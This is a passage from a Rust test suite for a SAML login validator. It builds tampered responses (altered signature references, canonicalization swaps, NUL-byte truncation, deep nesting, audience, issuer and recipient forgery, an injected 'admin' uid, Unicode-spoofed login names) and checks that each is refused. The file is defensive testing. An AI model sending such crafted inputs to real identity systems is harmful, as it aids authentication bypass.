    }
    c.reject(
        REF,
        "reference-uri-missing",
        rep(&a, &reference, "<ds:Reference>"),
        R::ReferenceInvalid,
    );
    c.reject(
        REF,
        "reference-uri-assertion-from-response-signature",
        rep(
            &r,
            "URI=\"#_resp-rsa-sha256-response\"",
            "URI=\"#_assert-rsa-sha256-response\"",
        ),
        R::ReferenceInvalid,
    );
    c.reject(
        REF,
        "reference-uri-empty-response-signature",
        rep(&r, "URI=\"#_resp-rsa-sha256-response\"", "URI=\"\""),
        R::ReferenceInvalid,
    );
    let hmac_len = |uri: &str| {
        rep(
            &a,
            RSA_SHA256_M,
            &format!(
                "<ds:SignatureMethod Algorithm=\"{uri}\"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>"
            ),
        )
    };
    c.reject(
        REF,
        "hmac-output-length-on-rsa",
        hmac_len("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"),
        R::SignatureMalformed,
    );
    c.reject(
        REF,
        "hmac-output-length-on-hmac",
        hmac_len("http://www.w3.org/2000/09/xmldsig#hmac-sha1"),
        R::SignatureMalformed,
    );
    c.reject(REF, "signature-method-with-child", rep(&a, RSA_SHA256_M, "<ds:SignatureMethod Algorithm=\"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256\"><x/></ds:SignatureMethod>"), R::SignatureMalformed);
    let c14n_method = |uri: &str| {
        rep(
            &a,
            EXC_C14N_M,
            &format!("<ds:CanonicalizationMethod Algorithm=\"{uri}\"/>"),
        )
    };
    // Canonical XML 1.0/1.1 are allowed methods (issue 12); SignedInfo was signed exclusively.
    c.reject(
        REF,
        "canonicalization-inclusive",
        c14n_method("http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
        R::SignatureInvalid,
    );
    c.reject(
        REF,
        "canonicalization-inclusive-with-comments",
        c14n_method("http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments"),
        R::SignatureInvalid,
    );
    c.reject(
        REF,
        "canonicalization-c14n11",
        c14n_method("http://www.w3.org/2006/12/xml-c14n11"),
        R::SignatureInvalid,
    );
    c.reject(
        REF,
        "canonicalization-unknown",
        c14n_method("urn:evil:c14n"),
        R::AlgorithmNotAllowed,
    );
    c.reject(
        REF,
        "canonicalization-exc-with-comments",
        c14n_method("http://www.w3.org/2001/10/xml-exc-c14n#WithComments"),
        R::SignatureInvalid,
    );
    c.reject(
        REF,
        "canonicalization-method-missing",
        rep(&a, EXC_C14N_M, ""),
        R::SignatureMalformed,
    );
    c.reject(
        REF,
        "signedinfo-children-reordered",
        rep(
            &a,
            &format!("{EXC_C14N_M}{RSA_SHA256_M}"),
            &format!("{RSA_SHA256_M}{EXC_C14N_M}"),
        ),
        R::SignatureMalformed,
    );
    c.reject(
        REF,
        "element-after-digestvalue",
        rep(
            &a,
            "</ds:DigestValue>",
            "</ds:DigestValue><ds:DigestValue>AAAA</ds:DigestValue>",
        ),
        R::SignatureMalformed,
    );
}

/// The NameID is read exactly as signed, never trimmed: the validator accepts these (its
/// job is the signature and the protocol), and the login refuses them with
/// `login_name_invalid` (`login::refused_login_names_create_no_user`), so that
/// `alice@example.test` followed by a no-break space can never sign in as `alice@example.test`.
fn login_name_as_sent(c: &mut Corpus) {
    const W: &str = "login-name";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let aid = "_assert-rsa-sha256-assertion";
    for (label, name) in [
        ("nbsp-suffix", "alice@example.test\u{a0}"),
        ("rlo", "alice\u{202e}tset.elpmaxe@"),
        ("zero-width", "a\u{200b}lice@example.test"),
        ("c1-csi", "alice@example.test\u{9b}2J"),
        ("space-suffix", "alice@example.test "),
    ] {
        let xml = idp_signed(&rep(&a, ">alice@example.test<", &format!(">{name}<")), aid);
        c.accept(W, label, xml, c.base.clone(), name);
    }
}

/// Input that is not one well-formed, bounded XML document.
fn input_shape(c: &mut Corpus) {
    const W: &str = "input";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let r = fixture_text("rsa-sha256-response.xml");
    let enc = fixture_text("enc-aes256gcm-assertion-signed.xml");
    c.reject(W, "empty", "", R::EmptyInput);
    c.reject(W, "whitespace", " \n\t\r\n ", R::EmptyInput);
    c.reject(W, "text", "hello", R::MalformedXml);
    c.reject(W, "json", "{\"SAMLResponse\": \"x\"}", R::MalformedXml);
    c.reject(
        W,
        "html",
        "<!doctype html><html><body>x</body></html>",
        R::MalformedXml,
    );
    c.reject(W, "still-base64", B64.encode(a.as_bytes()), R::MalformedXml);
    c.reject(W, "binary", (0u8..=255).collect::<Vec<u8>>(), R::NulByte);
    c.reject(W, "lone-lt", "<", R::MalformedXml);
    c.reject(W, "declaration-only", DECL, R::MalformedXml);
    c.reject(W, "comment-only", "<!-- nothing -->", R::MalformedXml);
    c.reject(
        W,
        "nul-byte",
        rep(&a, ">alice@example.test<", ">alice@example.test\0<"),
        R::NulByte,
    );
    // libxml2 (and xmllint) stop reading at a NUL byte: a valid response followed by `\0`
    // and anything would be accepted with the rest unseen. Any NUL byte is refused first.
    c.reject(
        W,
        "nul-then-garbage",
        format!("{a}\0garbage<samlp:Response/>"),
        R::NulByte,
    );
    c.reject(W, "nul-then-garbage-R", format!("{r}\0<x/>"), R::NulByte);
    c.reject(
        W,
        "invalid-utf8",
        [
            &a.as_bytes()[..200],
            &[0xC3, 0x28, 0xFF],
            &a.as_bytes()[200..],
        ]
        .concat(),
        R::MalformedXml,
    );
    c.reject(
        W,
        "trailing-garbage",
        format!("{a}garbage"),
        R::MalformedXml,
    );
    c.reject(W, "trailing-element", format!("{a}<x/>"), R::MalformedXml);
    c.reject(W, "leading-garbage", format!("x{a}"), R::MalformedXml);
    c.reject(
        W,
        "unclosed-root",
        a.trim_end()
            .trim_end_matches("</samlp:Response>")
            .to_string(),
        R::MalformedXml,
    );
    c.reject(
        W,
        "mismatched-end-tag",
        rep(&a, "</saml:NameID>", "</saml:Name>"),
        R::MalformedXml,
    );
    c.reject(
        W,
        "duplicate-attribute",
        rep(&a, "<saml:NameID ", "<saml:NameID Format=\"x\" "),
        R::MalformedXml,
    );
    // Unbound prefixes are namespace errors, which libxml2 reports without failing the parse.
    c.reject(
        W,
        "unbound-prefix-in-signed-part",
        rep(&a, "<saml:NameID ", "<evil:X/><saml:NameID "),
        R::MalformedXml,
    );
    c.reject(
        W,
        "unbound-prefix-in-unsigned-part",
        rep(&a, "<samlp:Status>", "<evil:X/><samlp:Status>"),
        R::MalformedXml,
    );
    c.accept(
        W,
        "trailing-whitespace-and-comment",
        format!("{a}\n<!-- fine -->\n"),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    for (label, doc) in [("A", &a), ("R", &r), ("enc", &enc)] {
        for tenth in 1..10 {
            let cut = doc.len() * tenth / 10;
            c.reject(
                W,
                format!("truncated-{label}-{}0pct", tenth),
                doc.as_bytes()[..cut].to_vec(),
                R::MalformedXml,
            );
        }
    }
    // Size: refused before parsing, the boundary is inclusive.
    let limit = c.env(|e| e.sp.max_response_bytes = a.len() - 1);
    c.reject_in(
        W,
        "one-byte-over-configured-limit",
        a.clone(),
        limit,
        R::InputTooLarge,
    );
    let exact = c.env(|e| e.sp.max_response_bytes = a.len());
    c.accept(
        W,
        "exactly-at-configured-limit",
        a.clone(),
        exact,
        xmlsec::NAME_ID,
    );
    c.reject(
        W,
        "over-default-limit-padding",
        format!(
            "{a}{}",
            " ".repeat(fedbridge::saml::DEFAULT_MAX_RESPONSE_BYTES)
        ),
        R::InputTooLarge,
    );
    c.reject(
        W,
        "over-default-limit-whitespace-only",
        " ".repeat(fedbridge::saml::DEFAULT_MAX_RESPONSE_BYTES + 1),
        R::InputTooLarge,
    );
    // Depth: the Response is level 1, Extensions level 2, then n nested empty elements; the
    // limit is 64 levels.
    let nest = |n: usize| {
        rep(
            &a,
            "<samlp:Status>",
            &format!(
                "<samlp:Extensions>{}{}</samlp:Extensions><samlp:Status>",
                "<x>".repeat(n),
                "</x>".repeat(n)
            ),
        )
    };
    c.accept(
        W,
        "nesting-64-levels",
        nest(62),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.reject(W, "nesting-65-levels", nest(63), R::TooDeep);
    c.reject(W, "nesting-100-levels", nest(98), R::TooDeep);
    c.reject(W, "nesting-300-levels", nest(298), R::TooDeep);
    c.reject(W, "nesting-10000-levels", nest(9998), R::TooDeep);
    c.reject(
        W,
        "nesting-inside-signed-assertion",
        rep(
            &a,
            "<saml:AttributeStatement>",
            &format!(
                "<saml:AttributeStatement>{}{}",
                "<x>".repeat(70),
                "</x>".repeat(70)
            ),
        ),
        R::TooDeep,
    );
    // Root element checks.
    c.reject(
        W,
        "root-logout-response",
        rep(
            &rep(&a, "<samlp:Response ", "<samlp:LogoutResponse "),
            "</samlp:Response>",
            "</samlp:LogoutResponse>",
        ),
        R::NotAResponse,
    );
    c.reject(
        W,
        "root-saml11-namespace",
        rep(
            &a,
            "xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"",
            "xmlns:samlp=\"urn:oasis:names:tc:SAML:1.0:protocol\"",
        ),
        R::NotAResponse,
    );
    c.reject(
        W,
        "root-no-namespace",
        rep(
            &rep(
                &a,
                "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"",
                "<Response",
            ),
            "</samlp:Response>",
            "</Response>",
        )
        .replace(
            "<samlp:Status><samlp:StatusCode",
            "<samlp:Status xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"><samlp:StatusCode",
        ),
        R::NotAResponse,
    );
}

/// Every time check on both sides of its boundary, moved by the clock (no tampering) or, to
/// separate checks that share a time in the fixtures, on responses the IdP key really signed.
fn protocol_time(c: &mut Corpus) {
    const W: &str = "protocol-time";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let r = fixture_text("rsa-sha256-response.xml");
    let aid = "_assert-rsa-sha256-assertion";
    let at_time = |c: &Corpus, t: &str| c.env(|e| e.now = at(t));

    for (label, doc) in [("A", &a), ("R", &r)] {
        // Conditions NotBefore 09:59:30, skew 180 s.
        c.reject_at(
            W,
            format!("conditions-notbefore-minus-skew-minus-1s-{label}"),
            doc.clone(),
            at_time(c, NOT_BEFORE_MINUS_SKEW_MINUS_1),
            R::NotYetValid,
            "Conditions",
        );
        c.accept(
            W,
            format!("conditions-notbefore-minus-skew-{label}"),
            doc.clone(),
            at_time(c, NOT_BEFORE_MINUS_SKEW),
            xmlsec::NAME_ID,
        );
        // Conditions and SubjectConfirmationData NotOnOrAfter are both 10:05:00; the
        // SubjectConfirmation is checked first.
        c.accept(
            W,
            format!("notonorafter-plus-skew-minus-1s-{label}"),
            doc.clone(),
            at_time(c, NOT_ON_OR_AFTER_PLUS_SKEW_MINUS_1),
            xmlsec::NAME_ID,
        );
        c.reject_at(
            W,
            format!("notonorafter-plus-skew-{label}"),
            doc.clone(),
            at_time(c, NOT_ON_OR_AFTER_PLUS_SKEW),
            R::Expired,
            "SubjectConfirmationData",
        );
    }
    c.reject_in(
        W,
        "far-future",
        a.clone(),
        at_time(c, "2030-01-01T00:00:00Z"),
        R::Expired,
    );
    c.reject_in(
        W,
        "far-past",
        a.clone(),
        at_time(c, "2020-01-01T00:00:00Z"),
        R::NotYetValid,
    );
    // Zero skew.
    let no_skew = |c: &Corpus, t: &str| {
        c.env(|e| {
            e.sp.clock_skew = Duration::ZERO;
            e.now = at(t);
        })
    };
    c.accept(
        W,
        "no-skew-at-notbefore",
        a.clone(),
        no_skew(c, "2026-01-15T09:59:30Z"),
        xmlsec::NAME_ID,
    );
    c.reject_in(
        W,
        "no-skew-1s-before-notbefore",
        a.clone(),
        no_skew(c, "2026-01-15T09:59:29Z"),
        R::NotYetValid,
    );
    c.accept(
        W,
        "no-skew-1s-before-notonorafter",
        a.clone(),
        no_skew(c, "2026-01-15T10:04:59Z"),
        xmlsec::NAME_ID,
    );
    c.reject_in(
        W,
        "no-skew-at-notonorafter",
        a.clone(),
        no_skew(c, "2026-01-15T10:05:00Z"),
        R::Expired,
    );

    // IdP-signed variants that separate the checks.
    let scd_later = idp_signed(
        &rep(
            &a,
            "<saml:SubjectConfirmationData NotOnOrAfter=\"2026-01-15T10:05:00Z\"",
            "<saml:SubjectConfirmationData NotOnOrAfter=\"2026-01-15T10:10:00Z\"",
        ),
        aid,
    );
    c.accept(
        W,
        "conditions-notonorafter-plus-skew-minus-1s",
        scd_later.clone(),
        at_time(c, NOT_ON_OR_AFTER_PLUS_SKEW_MINUS_1),
        xmlsec::NAME_ID,
    );
    c.reject_at(
        W,
        "conditions-notonorafter-plus-skew",
        scd_later,
        at_time(c, NOT_ON_OR_AFTER_PLUS_SKEW),
        R::Expired,
        "Conditions",
    );
    let conditions_later = idp_signed(
        &rep(
            &a,
            "NotOnOrAfter=\"2026-01-15T10:05:00Z\"><saml:AudienceRestriction>",
            "NotOnOrAfter=\"2026-01-15T10:10:00Z\"><saml:AudienceRestriction>",
        ),
        aid,
    );
    c.accept(
        W,
        "scd-notonorafter-plus-skew-minus-1s",
        conditions_later.clone(),
        at_time(c, NOT_ON_OR_AFTER_PLUS_SKEW_MINUS_1),
        xmlsec::NAME_ID,
    );
    c.reject_at(
        W,
        "scd-notonorafter-plus-skew",
        conditions_later,
        at_time(c, NOT_ON_OR_AFTER_PLUS_SKEW),
        R::Expired,
        "SubjectConfirmationData",
    );
    let scd_not_before = idp_signed(
        &rep(
            &a,
            "<saml:SubjectConfirmationData ",
            "<saml:SubjectConfirmationData NotBefore=\"2026-01-15T10:00:00Z\" ",
        ),
        aid,
    );
    c.accept(
        W,
        "scd-notbefore-minus-skew",
        scd_not_before.clone(),
        at_time(c, "2026-01-15T09:57:00Z"),
        xmlsec::NAME_ID,
    );
    c.reject_at(
        W,
        "scd-notbefore-minus-skew-minus-1s",
        scd_not_before,
        at_time(c, "2026-01-15T09:56:59Z"),
        R::NotYetValid,
        "SubjectConfirmationData",
    );
    let session_early = idp_signed(
        &rep(
            &a,
            "SessionNotOnOrAfter=\"2026-01-15T18:00:00Z\"",
            "SessionNotOnOrAfter=\"2026-01-15T10:02:00Z\"",
        ),
        aid,
    );
    c.accept(
        W,
        "session-notonorafter-plus-skew-minus-1s",
        session_early.clone(),
        at_time(c, "2026-01-15T10:04:59Z"),
        xmlsec::NAME_ID,
    );
    c.reject_at(
        W,
        "session-notonorafter-plus-skew",
        session_early,
        at_time(c, "2026-01-15T10:05:00Z"),
        R::Expired,
        "SessionNotOnOrAfter",
    );
    for (label, from, to) in [
        (
            "conditions",
            "NotBefore=\"2026-01-15T09:59:30Z\"",
            "NotBefore=\"soon\"",
        ),
        (
            "scd",
            "<saml:SubjectConfirmationData NotOnOrAfter=\"2026-01-15T10:05:00Z\"",
            "<saml:SubjectConfirmationData NotOnOrAfter=\"2026-13-45T10:05:00Z\"",
        ),
        (
            "session",
            "SessionNotOnOrAfter=\"2026-01-15T18:00:00Z\"",
            "SessionNotOnOrAfter=\"\"",
        ),
    ] {
        c.reject(
            W,
            format!("idp-signed-invalid-timestamp-{label}"),
            idp_signed(&rep(&a, from, to), aid),
            R::InvalidTimestamp,
        );
    }
    let no_scd_end = idp_signed(
        &rep(
            &a,
            "<saml:SubjectConfirmationData NotOnOrAfter=\"2026-01-15T10:05:00Z\" ",
            "<saml:SubjectConfirmationData ",
        ),
        aid,
    );
    c.reject(
        W,
        "idp-signed-scd-without-notonorafter",
        no_scd_end,
        R::SubjectConfirmationInvalid,
    );
}

/// Destination, Recipient, Audience, Issuer, Status, InResponseTo: changed through the
/// settings (the signature stays valid), the unsigned Response of the A fixture, or IdP-signed
/// variants.
fn protocol_checks(c: &mut Corpus) {
    const W: &str = "protocol";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let r = fixture_text("rsa-sha256-response.xml");
    let azure = fixture_text("azure-6k.xml");
    let unsolicited = fixture_text("rsa-sha256-unsolicited.xml");
    let aid = "_assert-rsa-sha256-assertion";
    let acs = xmlsec::ACS;

    // Destination (checked before the Recipient).
    for (label, url) in [
        ("other", EVIL_URL),
        ("empty", ""),
        (
            "trailing-slash",
            "https://sp.example.test/EnticeServices/rest/authenticate/saml/",
        ),
        (
            "other-case",
            "https://SP.example.test/EnticeServices/rest/authenticate/saml",
        ),
    ] {
        let env = c.env(|e| e.sp.acs_url = Expected::Exactly(url.into()));
        c.reject_in(
            W,
            format!("acs-url-{label}"),
            a.clone(),
            env,
            R::DestinationMismatch,
        );
    }
    c.reject_in(
        W,
        "acs-url-other-R",
        r.clone(),
        c.env(|e| e.sp.acs_url = Expected::Exactly(EVIL_URL.into())),
        R::DestinationMismatch,
    );
    c.reject(
        W,
        "destination-changed-unsigned-response",
        rep(
            &a,
            &format!("Destination=\"{acs}\""),
            &format!("Destination=\"{EVIL_URL}\""),
        ),
        R::DestinationMismatch,
    );
    c.reject(
        W,
        "destination-empty-unsigned-response",
        rep(&a, &format!("Destination=\"{acs}\""), "Destination=\"\""),
        R::DestinationMismatch,
    );
    let no_destination = rep(&a, &format!(" Destination=\"{acs}\""), "");
    c.accept(
        W,
        "destination-absent-unsigned-response",
        no_destination.clone(),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    // Recipient alone: no Destination, other ACS configured.
    c.reject_in(
        W,
        "recipient-mismatch-acs-url-other",
        no_destination,
        c.env(|e| e.sp.acs_url = Expected::Exactly(EVIL_URL.into())),
        R::RecipientMismatch,
    );
    c.reject(
        W,
        "idp-signed-recipient-other",
        idp_signed(
            &rep(
                &a,
                &format!("Recipient=\"{acs}\""),
                &format!("Recipient=\"{EVIL_URL}\""),
            ),
            aid,
        ),
        R::RecipientMismatch,
    );
    c.reject(
        W,
        "idp-signed-recipient-absent",
        idp_signed(&rep(&a, &format!(" Recipient=\"{acs}\""), ""), aid),
        R::RecipientMismatch,
    );
    c.reject(
        W,
        "idp-signed-not-bearer",
        idp_signed(&rep(&a, "cm:bearer", "cm:holder-of-key"), aid),
        R::SubjectConfirmationInvalid,
    );

    // Audience (the SPNameQualifier names the SP too: same code, checked first).
    for (label, id) in [("other", "https://other-sp.example.test/"), ("empty", "")] {
        c.reject_in(
            W,
            format!("sp-entity-id-{label}"),
            a.clone(),
            c.env(|e| e.sp.entity_id = Expected::Exactly(id.into())),
            R::AudienceMismatch,
        );
    }
    c.reject_in(
        W,
        "sp-entity-id-other-R",
        r.clone(),
        c.env(|e| e.sp.entity_id = Expected::Exactly("https://other-sp.example.test/".into())),
        R::AudienceMismatch,
    );
    // Azure has no SPNameQualifier: the Audience check alone.
    c.reject_in(
        W,
        "sp-entity-id-other-audience-only",
        azure,
        c.env(|e| e.sp.entity_id = Expected::Exactly("https://other-sp.example.test/".into())),
        R::AudienceMismatch,
    );
    c.reject(
        W,
        "idp-signed-audience-other",
        idp_signed(
            &rep(
                &a,
                "<saml:Audience>https://sp.example.test/saml/metadata</saml:Audience>",
                "<saml:Audience>https://other-sp.example.test/</saml:Audience>",
            ),
            aid,
        ),
        R::AudienceMismatch,
    );
    c.reject(
        W,
        "idp-signed-no-audience-restriction",
        idp_signed(
            &remove_el(
                &a,
                "<saml:AudienceRestriction>",
                "</saml:AudienceRestriction>",
            ),
            aid,
        ),
        R::AudienceMismatch,
    );
    c.reject(W, "idp-signed-second-restriction-without-us", idp_signed(&rep(&a, "</saml:AudienceRestriction>", "</saml:AudienceRestriction><saml:AudienceRestriction><saml:Audience>https://other-sp.example.test/</saml:Audience></saml:AudienceRestriction>"), aid), R::AudienceMismatch);
    c.reject(
        W,
        "idp-signed-conditions-missing",
        idp_signed(
            &remove_el(&a, "<saml:Conditions ", "</saml:Conditions>"),
            aid,
        ),
        R::ConditionsMissing,
    );

    // Issuer.
    for (label, id) in [
        ("other", "https://evil.example.test/metadata"),
        ("empty", ""),
    ] {
        c.reject_at(
            W,
            format!("idp-entity-id-{label}"),
            a.clone(),
            c.env(|e| e.idp.entity_id = Some(id.into())),
            R::IssuerMismatch,
            "Assertion Issuer",
        );
    }
    c.reject_at(
        W,
        "response-issuer-changed-unsigned-response",
        rep(
            &a,
            "<saml:Issuer>https://idp.example.test/metadata</saml:Issuer><samlp:Status>",
            "<saml:Issuer>https://evil.example.test/metadata</saml:Issuer><samlp:Status>",
        ),
        c.base.clone(),
        R::IssuerMismatch,
        "Response Issuer",
    );
    c.reject_at(
        W,
        "response-issuer-empty-unsigned-response",
        rep(
            &a,
            "<saml:Issuer>https://idp.example.test/metadata</saml:Issuer><samlp:Status>",
            "<saml:Issuer></saml:Issuer><samlp:Status>",
        ),
        c.base.clone(),
        R::IssuerMismatch,
        "Response Issuer",
    );
    c.accept(
        W,
        "response-issuer-absent-unsigned-response",
        rep(
            &a,
            "<saml:Issuer>https://idp.example.test/metadata</saml:Issuer><samlp:Status>",
            "<samlp:Status>",
        ),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    let assertion_issuer =
        "<saml:Issuer>https://idp.example.test/metadata</saml:Issuer><ds:Signature";
    c.reject_at(
        W,
        "idp-signed-assertion-issuer-other",
        idp_signed(
            &rep(
                &a,
                assertion_issuer,
                "<saml:Issuer>https://evil.example.test/metadata</saml:Issuer><ds:Signature",
            ),
            aid,
        ),
        c.base.clone(),
        R::IssuerMismatch,
        "Assertion Issuer",
    );
    c.reject(
        W,
        "idp-signed-assertion-issuer-missing",
        idp_signed(&rep(&a, assertion_issuer, "<ds:Signature"), aid),
        R::IssuerMissing,
    );

    // Subject and statements.
    c.reject(
        W,
        "idp-signed-nameid-empty",
        idp_signed(
            &rep(&a, ">alice@example.test</saml:NameID>", "></saml:NameID>"),
            aid,
        ),
        R::NameIdMissing,
    );
    c.reject(
        W,
        "idp-signed-subject-missing",
        idp_signed(&remove_el(&a, "<saml:Subject>", "</saml:Subject>"), aid),
        R::NameIdMissing,
    );
    c.reject(
        W,
        "idp-signed-spnamequalifier-other",
        idp_signed(
            &rep(
                &a,
                "SPNameQualifier=\"https://sp.example.test/saml/metadata\"",
                "SPNameQualifier=\"https://other-sp.example.test/\"",
            ),
            aid,
        ),
        R::AudienceMismatch,
    );
    c.reject(
        W,
        "idp-signed-authnstatement-missing",
        idp_signed(
            &remove_el(&a, "<saml:AuthnStatement ", "</saml:AuthnStatement>"),
            aid,
        ),
        R::AuthnStatementMissing,
    );
    c.reject(W, "idp-signed-duplicate-attribute", idp_signed(&rep(&a, "</saml:AttributeStatement>", "<saml:Attribute Name=\"uid\"><saml:AttributeValue>admin</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>"), aid), R::DuplicateAttribute);
    // One attribute repeated with the same Name and NameFormat (Keycloak's role list mapper):
    // one attribute, the values merged in order, a repeated value once.
    let basic = "NameFormat=\"urn:oasis:names:tc:SAML:2.0:attrname-format:basic\"";
    let groups_again = |extra: &str, values: &str| {
        idp_signed(
            &rep(
                &a,
                "</saml:AttributeStatement>",
                &format!(
                    "<saml:Attribute {extra} Name=\"groups\">{values}</saml:Attribute></saml:AttributeStatement>"
                ),
            ),
            aid,
        )
    };
    let staff = "<saml:AttributeValue xsi:type=\"xs:string\">staff</saml:AttributeValue><saml:AttributeValue xsi:type=\"xs:string\">users</saml:AttributeValue>";
    c.accept_attr(
        W,
        "idp-signed-repeated-attribute-merged",
        groups_again(basic, staff),
        "groups",
        &["users", "admins", "staff"],
    );
    c.accept_attr(
        W,
        "idp-signed-repeated-attribute-in-a-second-statement-merged",
        idp_signed(
            &rep(
                &a,
                "</saml:AttributeStatement>",
                &format!("</saml:AttributeStatement><saml:AttributeStatement><saml:Attribute {basic} Name=\"groups\">{staff}</saml:Attribute></saml:AttributeStatement>"),
            ),
            aid,
        ),
        "groups",
        &["users", "admins", "staff"],
    );
    c.reject(
        W,
        "idp-signed-repeated-attribute-other-name-format",
        groups_again(
            "NameFormat=\"urn:oasis:names:tc:SAML:2.0:attrname-format:uri\"",
            staff,
        ),
        R::DuplicateAttribute,
    );
    c.reject(
        W,
        "idp-signed-repeated-attribute-other-friendly-name",
        idp_signed(
            &rep(
                &a,
                "</saml:AttributeStatement>",
                &format!("<saml:Attribute {basic} FriendlyName=\"roles\" Name=\"urn:oid:1.3.6.1.4.1.5923.1.1.1.7\">{staff}</saml:Attribute><saml:Attribute {basic} FriendlyName=\"entitlements\" Name=\"urn:oid:1.3.6.1.4.1.5923.1.1.1.7\">{staff}</saml:Attribute></saml:AttributeStatement>"),
            ),
            aid,
        ),
        R::DuplicateAttribute,
    );
    // A login-name attribute repeated with another value is one attribute with two values:
    // the login refuses it as ambiguous (the validator merges, it does not pick).
    c.accept_attr(
        W,
        "idp-signed-repeated-uid-merged-into-two-values",
        idp_signed(
            &rep(
                &a,
                "</saml:AttributeStatement>",
                &format!("<saml:Attribute {basic} Name=\"uid\"><saml:AttributeValue xsi:type=\"xs:string\">admin</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>"),
            ),
            aid,
        ),
        "uid",
        &["alice", "admin"],
    );

    // A Subject without NameID: refused unless the login name comes from an attribute
    // (SAML_USER_ID_ATTRIBUTE), when every other Subject rule still applies.
    let no_name_id = idp_signed(&remove_el(&a, "<saml:NameID ", "</saml:NameID>"), aid);
    c.reject(
        W,
        "idp-signed-nameid-absent",
        no_name_id.clone(),
        R::NameIdMissing,
    );
    let attribute_login = c.env(|e| e.sp.name_id_required = false);
    c.accept_attr_in(
        W,
        "idp-signed-nameid-absent-user-id-attribute-configured",
        no_name_id.clone(),
        attribute_login.clone(),
        "uid",
        &["alice"],
    );
    c.reject_in(
        W,
        "idp-signed-nameid-absent-user-id-attribute-configured-subject-missing",
        idp_signed(&remove_el(&a, "<saml:Subject>", "</saml:Subject>"), aid),
        attribute_login.clone(),
        R::NameIdMissing,
    );
    c.reject_in(
        W,
        "idp-signed-nameid-empty-user-id-attribute-configured",
        idp_signed(
            &rep(&a, ">alice@example.test</saml:NameID>", "></saml:NameID>"),
            aid,
        ),
        attribute_login.clone(),
        R::NameIdMissing,
    );
    c.reject_in(
        W,
        "idp-signed-nameid-absent-user-id-attribute-configured-other-recipient",
        idp_signed(
            &rep(
                &remove_el(&a, "<saml:NameID ", "</saml:NameID>"),
                "Recipient=\"https://sp.example.test/EnticeServices/rest/authenticate/saml\"",
                &format!("Recipient=\"{EVIL_URL}\""),
            ),
            aid,
        ),
        attribute_login.clone(),
        R::RecipientMismatch,
    );
    c.reject_in(
        W,
        "idp-signed-nameid-absent-user-id-attribute-configured-no-bearer",
        idp_signed(
            &remove_el(
                &remove_el(&a, "<saml:NameID ", "</saml:NameID>"),
                "<saml:SubjectConfirmation ",
                "</saml:SubjectConfirmation>",
            ),
            aid,
        ),
        attribute_login,
        R::SubjectConfirmationInvalid,
    );

    // FEDBRIDGE_REQUIRE_SIGNED_ASSERTIONS: the Assertion's own signature is required.
    let strict = c.env(|e| e.sp.require_signed_assertion = true);
    c.reject_in(
        W,
        "response-signed-only-when-assertions-must-be-signed",
        fixture_text("rsa-sha256-response.xml"),
        strict.clone(),
        R::AssertionSignatureMissing,
    );
    c.reject_in(
        W,
        "encrypted-response-signed-only-when-assertions-must-be-signed",
        fixture_text("enc-aes256cbc-response-signed.xml"),
        strict.clone(),
        R::AssertionSignatureMissing,
    );
    c.accept(
        W,
        "both-signed-when-assertions-must-be-signed",
        fixture_text("rsa-sha256-both.xml"),
        strict,
        xmlsec::NAME_ID,
    );
    c.reject(
        W,
        "idp-signed-encrypted-attribute",
        idp_signed(
            &rep(
                &a,
                "</saml:AttributeStatement>",
                "<saml:EncryptedAttribute/></saml:AttributeStatement>",
            ),
            aid,
        ),
        R::EncryptedAttributeUnsupported,
    );

    // Status (checked before any signature).
    for (label, doc) in [("A", &a), ("R", &r)] {
        c.reject(
            W,
            format!("status-requester-{label}"),
            rep(doc, SUCCESS, "urn:oasis:names:tc:SAML:2.0:status:Requester"),
            R::StatusNotSuccess,
        );
    }
    c.reject(W, "status-success-only-as-second-level", rep(&a, &format!("<samlp:StatusCode Value=\"{SUCCESS}\"/>"), &format!("<samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Responder\"><samlp:StatusCode Value=\"{SUCCESS}\"/></samlp:StatusCode>")), R::StatusNotSuccess);
    c.reject(
        W,
        "status-success-padded",
        rep(
            &a,
            &format!("Value=\"{SUCCESS}\""),
            &format!("Value=\" {SUCCESS}\""),
        ),
        R::StatusNotSuccess,
    );
    c.reject(
        W,
        "status-missing",
        remove_el(&a, "<samlp:Status>", "</samlp:Status>"),
        R::SchemaViolation,
    );
    c.reject(
        W,
        "status-twice",
        rep(
            &a,
            "<samlp:Status>",
            &format!(
                "<samlp:Status><samlp:StatusCode Value=\"{SUCCESS}\"/></samlp:Status><samlp:Status>"
            ),
        ),
        R::SchemaViolation,
    );

    // InResponseTo.
    c.reject_in(
        W,
        "no-outstanding-request",
        a.clone(),
        c.env(|e| e.requests.clear()),
        R::InResponseToUnknown,
    );
    c.reject_in(
        W,
        "other-outstanding-request",
        a.clone(),
        c.env(|e| e.requests = vec!["_req-other".into()]),
        R::InResponseToUnknown,
    );
    c.reject_in(
        W,
        "no-outstanding-request-R",
        r.clone(),
        c.env(|e| e.requests.clear()),
        R::InResponseToUnknown,
    );
    c.reject(
        W,
        "response-inresponseto-changed-unsigned",
        rep(
            &a,
            "InResponseTo=\"_req-fedbridge-0001\">",
            "InResponseTo=\"_req-evil\">",
        ),
        R::InResponseToMismatch,
    );
    c.accept(
        W,
        "response-inresponseto-absent-unsigned",
        rep(&a, " InResponseTo=\"_req-fedbridge-0001\">", ">"),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.reject(
        W,
        "unsolicited-not-allowed",
        unsolicited.clone(),
        R::UnsolicitedNotAllowed,
    );
    c.accept(
        W,
        "unsolicited-allowed",
        unsolicited.clone(),
        c.env(|e| e.sp.allow_unsolicited = true),
        xmlsec::NAME_ID,
    );
